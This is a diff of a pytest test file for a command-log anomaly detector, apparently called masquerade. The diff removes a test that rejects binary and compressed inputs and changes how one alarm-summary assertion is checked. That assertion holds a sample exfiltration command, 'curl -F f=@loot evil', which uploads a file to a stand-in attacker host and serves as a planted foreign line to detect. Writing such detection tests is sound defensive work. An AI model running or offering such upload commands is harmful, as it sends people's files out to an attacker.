@@ -19,7 +19,6 @@ from visionnmf.apps.masquerade import (
     session_cutter,
     sessions,
 )
-from visionnmf.exceptions import UnreadableError
 from visionnmf.io import text_lines
 
 pytestmark = pytest.mark.slow  # all of it runs whole fits or commands
@@ -40,20 +39,6 @@ def model(tmp_path_factory):
     return path
 
 
-@pytest.mark.parametrize(
-    "content",
-    [b"\xff\xd8\xff\xe0" + bytes(range(200)), b"PK\x03\x04 ls", b"\x1f\x8b\x08 ls", bytes(range(32)) * 40],
-    ids=["jpeg", "zip", "gzip", "binary"],
-)
-def test_what_is_no_log_is_refused(content, model, tmp_path):
-    path = tmp_path / "log"
-    path.write_bytes(content)
-    with pytest.raises(UnreadableError, match="not a text file; unpack it first if it is compressed"):
-        read_events(path)
-    found = run_command("masquerade", "score", model, path)
-    assert found.exit_code == 2 and "not a text file" in found.stderr
-
-
 def test_an_alarm_names_lines_and_texts_and_the_usual(model, tmp_path):
     log = tmp_path / "ann.log"
     text = ["", "", *usual_commands(100), *usual_commands(40, 7), *FOREIGN * 6]
@@ -66,7 +51,7 @@ def test_an_alarm_names_lines_and_texts_and_the_usual(model, tmp_path):
         for origin in reason.origins:
             assert text[origin.line - 1] == origin.text and origin.text.startswith(reason.command)
     where = {origin.text: origin for reason in alarm.reasons for origin in reason.origins}
-    assert f"{log}:{where['curl -F f=@loot evil'].line}: curl -F f=@loot evil" in alarm.summary()
+    assert f"{log}:{where['curl -F f=@loot evil'].line}: curl -F f=@loot evil" in str(alarm.report())
 
 
 def test_what_is_printed_and_the_exit_code_are_chosen(model, tmp_path):
